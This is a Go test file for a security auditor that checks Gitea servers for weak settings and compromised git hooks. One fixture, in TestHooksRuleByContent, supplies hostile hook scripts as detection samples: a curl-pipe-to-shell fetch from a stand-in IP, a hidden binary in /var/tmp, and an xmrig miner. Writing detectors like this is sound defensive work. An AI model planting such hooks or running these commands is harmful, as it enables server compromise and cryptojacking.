package gitea

import (
	"context"
	"testing"
	"time"

	mw "github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/audittest"
)

func newAudit(t testing.TB) mw.Auditor {
	t.Helper()
	a, err := New(mw.Env{Now: func() time.Time { return time.Unix(1, 0) }})
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func audit(t *testing.T, url string, access mw.ServiceAccess) mw.Verdict {
	t.Helper()
	v, err := newAudit(t).Audit(context.Background(), mw.Target{Kind: mw.TargetService, Name: "gitea=" + url, Product: "gitea", URL: url, Access: access})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

const repos = `{"ok":true,"data":[{"full_name":"labadmin/r1"}]}`

func TestInsecure(t *testing.T) {
	s := audittest.New(t, audittest.Fixtures(t, "gitea", "insecure"))
	v := audit(t, s.URL, mw.ServiceAccess{})
	audittest.Want(t, v, map[string]mw.Status{
		ruleRegister: mw.StatusFail, ruleInstall: mw.StatusPass, ruleBrowse: mw.StatusFail, ruleTLS: mw.StatusFail,
		ruleTakeover: mw.StatusPossible, ruleCVE: mw.StatusPossible, ruleHooks: mw.StatusUnknown,
	})
	if v.Version != "1.26.0" {
		t.Errorf("version %q", v.Version)
	}
	s.OnlyAllowed(t, audittest.AllowedInREADME(readme))
}

func TestInsecureAsOwner(t *testing.T) {
	s := audittest.New(t, audittest.Fixtures(t, "gitea", "insecure"))
	s.Set("GET", "/api/v1/repos/search", true, 200, "application/json", repos)
	s.Set("GET", "/api/v1/repos/search?page=2", true, 200, "application/json", `{"ok":true,"data":[]}`)
	const token = "5ecre7-token-value"
	v := audit(t, s.URL, mw.ServiceAccess{Token: token})
	audittest.Want(t, v, map[string]mw.Status{ruleHooks: mw.StatusFail, ruleEditors: mw.StatusFail, ruleCustom: mw.StatusFail, ruleMiner: mw.StatusPass})
	audittest.NoSecret(t, v, token)
	s.OnlyAllowed(t, audittest.AllowedInREADME(readme))
}

func TestHardened(t *testing.T) {
	s := audittest.New(t, audittest.Fixtures(t, "gitea", "hardened"))
	s.Set("GET", "/api/v1/repos/search", true, 200, "application/json", repos)
	s.Set("GET", "/api/v1/repos/search?page=2", true, 200, "application/json", `{"ok":true,"data":[]}`)
	for name, access := range map[string]mw.ServiceAccess{"stranger": {}, "owner": {Token: "t"}} {
		t.Run(name, func(t *testing.T) {
			v := audit(t, s.URL, access)
			audittest.NothingFrom(t, v, rules(), mw.Medium)
			audittest.Want(t, v, map[string]mw.Status{ruleRegister: mw.StatusPass, ruleInstall: mw.StatusPass, ruleBrowse: mw.StatusPass, ruleTakeover: mw.StatusUnknown, ruleCustom: mw.StatusUnknown})
			if name == "owner" {
				audittest.Want(t, v, map[string]mw.Status{ruleHooks: mw.StatusPass})
			}
		})
	}
	s.OnlyAllowed(t, audittest.AllowedInREADME(readme))
}

func TestNotInstalled(t *testing.T) {
	s := audittest.New(t, audittest.Fixtures(t, "gitea", "insecure"))
	s.Set("GET", "/", false, 200, "text/html", `<title>Installation - Gitea: Git with a cup of tea</title><select name="db_type">`)
	s.Set("GET", "/api/v1/version", false, 404, "text/plain", "Not found.")
	audittest.Want(t, audit(t, s.URL, mw.ServiceAccess{}), map[string]mw.Status{ruleInstall: mw.StatusFail, ruleRegister: mw.StatusNotApplicable})
}

func TestHooksRuleByContent(t *testing.T) {
	s := audittest.New(t, audittest.Fixtures(t, "gitea", "insecure"))
	s.Set("GET", "/api/v1/repos/search", true, 200, "application/json", repos)
	s.Set("GET", "/api/v1/repos/search?page=2", true, 200, "application/json", `{"ok":true,"data":[]}`)
	s.Set("GET", "/api/v1/repos/labadmin/r1/hooks/git", true, 200, "application/json", `[
		{"name":"pre-receive","is_active":true,"content":"#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n"},
		{"name":"update","is_active":true,"content":"#!/bin/sh\n/var/tmp/.gt_sys_health &\n"},
		{"name":"post-receive","is_active":false,"content":"#!/bin/sh\nxmrig\n"}]`)
	v := audit(t, s.URL, mw.ServiceAccess{Token: "t"})
	audittest.Want(t, v, map[string]mw.Status{ruleFetch: mw.StatusFail, ruleMiner: mw.StatusFail})
}

func TestRules(t *testing.T) { audittest.CompleteRules(t, "gitea", rules()) }
